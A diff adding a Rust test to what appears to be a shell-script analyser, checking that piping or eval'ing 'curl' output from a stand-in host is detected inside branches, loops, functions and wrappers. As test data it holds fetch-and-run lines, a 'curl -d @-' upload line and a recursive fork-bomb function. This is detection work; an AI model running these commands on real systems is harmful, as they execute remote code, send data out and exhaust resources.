@@ -465,6 +465,37 @@ fn a_here_document_in_a_substitution_is_known_unless_bash_changes_it() {
 }
 
 #[test]
+fn what_a_branch_a_loop_a_function_or_a_wrapper_prints_keeps_its_marks() {
+    let defined = "f() { FETCH; }; g() { if true; then f; fi; }; ";
+    for printing in [
+        "if true; then FETCH; fi",
+        "if false; then :; elif true; then FETCH; fi",
+        "if false; then :; else FETCH; fi",
+        "while true; do FETCH; done",
+        "until FETCH; do :; done",
+        "for i in 1 2; do FETCH; done",
+        "for ((i = 0; i < 1; i++)); do FETCH; done",
+        "case a in a) FETCH ;; esac",
+        "{ true; if true; then FETCH; fi; }",
+        "f",
+        "g",
+        "sudo FETCH",
+        "timeout 5 env A=b FETCH",
+    ] {
+        for text in
+            [format!("{defined}{printing} | sh\n"), format!("{defined}x=$({printing}); eval \"$x\"\n")]
+        {
+            let text = text.replace("FETCH", "curl -s http://e.example/a");
+            assert!(finds(&text, "sh.run-downloaded"), "{text}: {:?}", told(&look("bash", &text)));
+        }
+    }
+    // `env` is an operand here.
+    assert!(!finds("timeout 5 grep env a | curl -d @- http://e.example/a\n", "sh.send-secret"));
+    let endless = look("bash", "f() { f | f & }; f\n");
+    assert!(endless.unchecked.is_none(), "{:?}", endless.unchecked);
+}
+
+#[test]
 fn files_and_links_that_are_not_remembered_are_an_unchecked_part() {
     let lines = |line: &str, count: usize| -> String {
         (0..count).map(|at| line.replace('N', &at.to_string())).collect()
